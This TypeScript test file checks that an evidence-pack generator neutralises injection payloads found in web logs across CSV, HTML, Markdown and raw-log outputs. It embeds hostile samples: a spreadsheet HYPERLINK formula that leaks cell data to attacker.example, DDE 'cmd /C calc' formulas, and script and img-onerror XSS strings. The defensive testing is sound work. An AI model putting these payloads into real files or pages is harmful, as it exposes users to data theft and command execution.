/**
 * Formula- and script-injection samples in user agents and referrers (see the donor-leak
 * fixture) come out inert: neutralised in CSV, escaped in HTML and Markdown, executed
 * nowhere; evidence-lines.log still holds the exact bytes.
 */
import { strict as assert } from 'node:assert';
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { makeCase, makePack, DONOR_LOG } from './pack-helpers';

const FORMULA_START = /^[=+\-@\t\r]/;
const HOSTILE_AGENTS = ['=HYPERLINK("http://attacker.example/x?"&A1,"click")', '@SUM(1+1)*cmd|" /C calc"!A0', '-2+3+cmd|" /C calc"!A0', '\tTabbed/1.0'];

describe('evidence pack: hostile log content stays inert', function () {
  this.timeout(30_000);
  let pack: string;
  before(async () => {
    pack = (await makePack(await makeCase(), 'hostile')).path;
  });
  const read = (name: string): string => readFileSync(join(pack, name), 'utf8');

  for (const name of ['downloads.csv', 'timeline.csv', 'sources.csv']) {
    it(`${name}: no cell starts like a formula`, () => {
      const rows = parse(read(name)) as string[][];
      assert.ok(rows.length > 1);
      for (const row of rows) for (const cell of row) assert.ok(!FORMULA_START.test(cell) || /^[+-]?\d+(\.\d+)?$/.test(cell), `${name}: ${JSON.stringify(cell)}`);
    });
  }

  it('CSV keeps the hostile values readable, each behind one apostrophe', () => {
    const timeline = parse(read('timeline.csv'), { columns: true }) as Record<string, string>[];
    const agents = new Set(timeline.map((row) => row.user_agent));
    for (const agent of HOSTILE_AGENTS) assert.ok(agents.has(`'${agent}`), `missing neutralised ${JSON.stringify(agent)}`);
    assert.ok(timeline.some((row) => row.referrer === "'+cmd|' /C calc'!A0"));
    assert.ok(agents.has('<script>alert("ua")</script>'), 'not a formula: kept as is in CSV');
  });

  it('report.html escapes every hostile value and ships only its own script and style, pinned by the CSP', () => {
    const html = read('report.html');
    assert.ok(!html.includes('<script>alert'), 'raw script tag from a user agent');
    assert.ok(!html.includes('<img src=x'), 'raw img tag from a referrer');
    assert.ok(html.includes('&lt;script&gt;alert(&quot;ua&quot;)&lt;/script&gt;'));
    assert.ok(html.includes('&quot;&gt;&lt;img src=x onerror=alert(1)&gt;'));
    const scripts = [...html.matchAll(/<script>([\s\S]*?)<\/script>/g)];
    const styles = [...html.matchAll(/<style>([\s\S]*?)<\/style>/g)];
    assert.equal(scripts.length, 1);
    assert.equal(styles.length, 1);
    assert.equal((html.match(/<script/gi) ?? []).length, 1);
    assert.ok(!/<[a-z][^>]*\son[a-z]+\s*=/i.test(html), 'no element with an inline event handler');
    assert.ok(!/<[^>]+\sstyle=/i.test(html), 'no inline style attributes (the CSP would block them)');
    const csp = /<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(html)?.[1];
    assert.ok(csp !== undefined, 'CSP meta');
    const hash = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
    assert.ok(csp.includes(`script-src ${hash(scripts[0]![1]!)}`), csp);
    assert.ok(csp.includes(`style-src ${hash(styles[0]![1]!)}`), csp);
    assert.ok(csp.startsWith("default-src 'none'"));
  });

  it('Markdown files escape markup from the logs', () => {
    const summary = read('summary.md');
    assert.ok(!summary.includes('<script>'), 'raw <script> in summary.md');
    assert.ok(summary.includes('\\<script\\>alert'));
    assert.ok(summary.includes('\\tTabbed/1.0'), 'the tab shown as an escape, not raw');
    assert.ok(!summary.includes('\tTabbed'));
  });

  it('events.jsonl and evidence-lines.log keep the exact values (data, not display)', () => {
    const events = read('events.jsonl').trim().split('\n').map((line) => JSON.parse(line) as Record<string, unknown>);
    assert.ok(events.some((e) => e['user_agent.original'] === HOSTILE_AGENTS[0]));
    assert.ok(events.some((e) => e['http.request.referrer'] === '"><img src=x onerror=alert(1)>'));
    const original = readFileSync(DONOR_LOG, 'utf8').split('\n');
    const cited = original.filter((line) => line.includes('onerror'));
    assert.equal(cited.length, 1);
    assert.ok(read('evidence-lines.log').includes(`${cited[0]}\n`));
  });
});
